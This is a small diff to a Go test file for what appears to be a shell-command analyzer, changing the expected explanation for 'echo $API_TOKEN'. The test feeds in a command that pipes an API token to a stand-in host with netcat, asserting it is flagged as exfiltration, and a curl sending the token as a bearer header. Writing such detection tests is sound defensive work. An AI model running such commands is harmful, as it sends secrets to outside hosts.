@@ -28,7 +28,7 @@ func TestSecretsAreShown(t *testing.T) {
 		assert.Contains(t, in(dir, env, bash, "-c", src), "q7s", src)
 	}
 	r := Analyze("echo $API_TOKEN")
-	assert.Equal(t, "Prints text, which shows or changes API_TOKEN.", strings.TrimSpace(r.Explain()))
+	assert.Equal(t, "Prints text, showing API_TOKEN.", strings.TrimSpace(r.Explain()))
 	assert.Contains(t, codes(Analyze("echo $API_TOKEN | nc h.example 80"), Dangerous), CodeExfiltration)
 	// What is given a credential to use it is told by its other effects.
 	for _, e := range Analyze(`curl -H "Authorization: Bearer $API_TOKEN" https://h.example/`).Effects() {
